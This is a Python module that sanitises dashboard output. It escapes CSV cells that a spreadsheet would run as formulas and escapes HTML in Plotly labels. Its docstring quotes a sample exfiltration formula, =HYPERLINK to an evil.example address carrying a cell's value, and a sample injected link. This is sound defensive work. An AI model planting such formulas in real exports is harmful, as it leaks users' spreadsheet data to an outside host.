"""Output safety: text that came from events (channels, sources, topics,
attrs, annotation text) leaves the dashboard as text.

* CSV downloads: a text cell starting with ``=``, ``+``, ``-``, ``@``, tab or
  CR is a formula to a spreadsheet (``=HYPERLINK("http://evil.example/?leak="&A1)``);
  OWASP's CSV-injection rule prefixes it with ``'``.  Numeric columns are
  left alone, so a negative number stays a number.
* Plotly figures: tick labels, legend names, hover text, annotations and
  titles understand a subset of HTML (``<a href>``, ``<b>``, ``<br>``), so a
  channel named ``<a href="https://evil.example/">x</a>`` would be a link.
  Escaping ``&``, ``<`` and ``>`` makes Plotly show the same characters as
  text (it decodes the entities when it draws them).
"""

from __future__ import annotations

import functools
import html
import re
from typing import TYPE_CHECKING, Any, Callable, Mapping, TypeVar

if TYPE_CHECKING:  # pragma: no cover
    import pandas as pd

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_MARKUP = re.compile(r"[<>&]")
F = TypeVar("F", bound=Callable[..., Any])


# --------------------------------------------------------------------------
# CSV
# --------------------------------------------------------------------------
def csv_cell(value: Any) -> Any:
    """One cell: a text that a spreadsheet would run gets a leading ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def _text_columns(df: "pd.DataFrame") -> list[Any]:
    import pandas as pd

    return [c for c in df.columns if df[c].dtype == object or isinstance(df[c].dtype, pd.StringDtype)]


def csv_safe(df: "pd.DataFrame") -> "pd.DataFrame":
    """A copy of ``df`` whose text cells cannot be read as formulas.  Only
    text cells change: numeric columns (and numbers inside object columns)
    are written as they are."""
    out = df.copy()
    for col in _text_columns(out):
        out[col] = [csv_cell(_joined(v)) for v in out[col]]
    out.columns = [csv_cell(str(c)) for c in out.columns]
    return out


def _joined(value: Any) -> Any:
    # a list cell (an incident's channels) would be written as its repr,
    # "['=x', 'web']"; written as the table shows it, its text is checked too
    if isinstance(value, (list, tuple)) or type(value).__name__ == "ndarray":
        return ", ".join(str(v) for v in value)
    return value


def csv_text(df: "pd.DataFrame") -> str:
    """The CSV every download sends: neutralised cells, RFC 4180 line ends
    (with ``\\r\\n`` as the terminator, a cell holding a CR is quoted instead
    of breaking the row in a spreadsheet)."""
    return csv_safe(df).to_csv(index=False, lineterminator="\r\n")


# --------------------------------------------------------------------------
# Figure text
# --------------------------------------------------------------------------
def plain(value: Any) -> Any:
    """Escape a string so Plotly shows it as text; other values unchanged."""
    if isinstance(value, str) and _MARKUP.search(value):
        return html.escape(value, quote=False)
    return value


def clip(text: str, n: int) -> str:
    """The first ``n`` characters of an escaped text as the user reads it
    (cutting the escaped form could leave half an entity, ``&am``)."""
    raw = html.unescape(text)
    return text if len(raw) <= n else plain(raw[:n])


def plain_frame(df: "pd.DataFrame") -> "pd.DataFrame":
    """``df`` with its text cells escaped (the frame itself when there is
    nothing to escape, so a figure of numbers costs one look at each text
    column's distinct values)."""
    out = None
    for col in _text_columns(df):
        values = df[col]
        try:
            changed = {v: plain(v) for v in values.unique() if isinstance(v, str) and _MARKUP.search(v)}
            if not changed:
                continue
            new = values.map(lambda v: changed.get(v, v) if isinstance(v, str) else v)
        except TypeError:  # unhashable cells (lists): escape each element
            new = values.map(lambda v: [plain(x) for x in v] if isinstance(v, (list, tuple)) else plain(v))
        out = df.copy() if out is None else out
        out[col] = new
    return df if out is None else out


def _plain_arg(value: Any) -> Any:
    import pandas as pd

    if isinstance(value, pd.DataFrame):
        return plain_frame(value)
    if isinstance(value, (list, tuple)) and value and all(isinstance(v, Mapping) for v in value):
        return [{k: plain(v) for k, v in item.items()} for item in value]
    return value


def plain_inputs(fn: F) -> F:
    """Decorate a figure builder: the data frames (and lists of records, such
    as regressions and annotations) it is given have their text escaped
    before it sees them.  Plain string arguments (titles, names) are the
    builder's own and may hold markup."""
    @functools.wraps(fn)
    def wrapper(*args: Any, **kwargs: Any) -> Any:
        return fn(*(_plain_arg(a) for a in args), **{k: _plain_arg(v) for k, v in kwargs.items()})
    wrapper.plain_inputs = True  # type: ignore[attr-defined]
    return wrapper  # type: ignore[return-value]
